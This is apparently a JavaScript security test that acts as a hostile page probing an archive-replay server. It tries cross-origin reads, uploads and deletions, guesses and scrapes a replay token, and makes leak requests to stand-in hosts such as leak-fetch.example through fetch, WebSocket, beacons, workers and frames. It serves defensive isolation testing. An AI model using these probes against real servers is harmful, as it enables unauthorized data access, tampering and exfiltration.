// What a hostile page tries. Each attempt ends as a word: "refused …", or whatever could be read.

async function attempt(action) {
    let timer;
    const late = new Promise((done) => { timer = setTimeout(() => done("refused: no answer"), 5000); });
    try {
        return String(await Promise.race([action(), late]));
    } catch (error) {
        return `refused: ${error.name}`;
    } finally {
        clearTimeout(timer);
    }
}

const loaded = (element) => new Promise((done, failed) => {
    element.addEventListener("load", () => done(element));
    element.addEventListener("error", () => failed(new Error("not loaded")));
    document.body.append(element);
});

async function attackLibrary({ control, archive }) {
    const results = {};
    for (const origin of control) {
        const read = async (path, options) => {
            const answer = await fetch(origin + path, options);
            // An opaque answer tells nothing; what it did is looked up afterwards. An archive's origin answers for
            // itself, with the words of a page that was never captured.
            const text = await answer.text();
            if (answer.type === "opaque" || answer.status === 404) return "refused: not readable";
            return `${answer.status} ${text.slice(0, 200)}`;
        };
        const plain = { method: "POST", headers: { "Content-Type": "text/plain" }, body: "PK" };
        const tries = {
            library: () => read("/"),
            "library without CORS": () => read("/", { mode: "no-cors" }),
            archives: () => read("/api/archives"),
            "archives with credentials": () => read("/api/archives", { credentials: "include" }),
            file: () => read(`/archives/${archive}.wacz`),
            "upload as text": () => read("/api/archives?name=x.wacz", plain),
            "upload as text without CORS": () => read("/api/archives?name=x.wacz", { ...plain, mode: "no-cors" }),
            "upload with a token": () => read("/api/archives?name=x.wacz", {
                ...plain, headers: { "Content-Type": "application/wacz", "Replayhost-Token": "guess" } }),
            removal: () => read(`/api/archives/${archive}`, { method: "DELETE" }),
            "removal without CORS": () => read(`/api/archives/${archive}`, { method: "POST", mode: "no-cors" }),
            beacon: () => navigator.sendBeacon(`${origin}/api/archives?name=x.wacz`, "PK") && "refused: not readable",
            script: async () => {
                const element = Object.assign(document.createElement("script"), { src: `${origin}/app/main.js` });
                await loaded(element);
                return element.src.startsWith(origin) ? "the library's script ran" : "refused: replayed";
            },
            picture: async () => {
                const element = Object.assign(document.createElement("img"), { src: `${origin}/app/icon.svg` });
                await loaded(element);
                return element.naturalWidth ? "the library's picture was shown" : "refused";
            },
            frame: async () => {
                const element = Object.assign(document.createElement("iframe"), { src: `${origin}/` });
                await loaded(element);
                return element.contentDocument?.querySelector("meta[name=replayhost-token]")?.content
                    ?? "refused: not readable";
            },
            form: async () => {
                const target = Object.assign(document.createElement("iframe"), { name: `answer-${Math.random()}` });
                const form = Object.assign(document.createElement("form"), {
                    method: "post", action: `${origin}/api/archives?name=x.wacz`, enctype: "text/plain",
                    target: target.name });
                document.body.append(target, form);
                const answered = new Promise((done) => target.addEventListener("load", done));
                form.submit();
                await Promise.race([answered, new Promise((done) => setTimeout(done, 1000))]);
                return "refused: not readable";
            },
        };
        for (const [name, action] of Object.entries(tries)) results[`${origin} ${name}`] = await attempt(action);
    }
    return results;
}

async function attackNetwork() {
    const socket = (address) => new Promise((done) => {
        const one = new WebSocket(address);
        one.onclose = one.onerror = done;
    });
    const worker = () => new Promise((done) => {
        const script = 'fetch("https://leak-worker.example/").catch(() => {}).then(() => postMessage("done"))';
        const one = new Worker(URL.createObjectURL(new Blob([script])));
        one.onmessage = one.onerror = done;
    });
    const picture = () => loaded(Object.assign(document.createElement("img"), { src: "https://leak-image.example/" }));
    const inner = () => loaded(Object.assign(document.createElement("iframe"), {
        src: "data:text/html,<script>new WebSocket('ws://leak-inner.example/')</" + "script><p>inner" }));
    const events = () => new Promise((done) => {
        const one = new EventSource("https://leak-events.example/");
        one.onerror = () => { one.close(); done(); };
    });
    const log = [];
    for (const action of [
        () => fetch("https://leak-fetch.example/"), () => fetch("https://leak-plain.example/", { mode: "no-cors" }),
        () => socket("wss://leak-socket.example/"), () => navigator.sendBeacon("https://leak-beacon.example/", "x"),
        picture, inner, events, worker,
    ]) log.push(await attempt(action));
    return log;
}
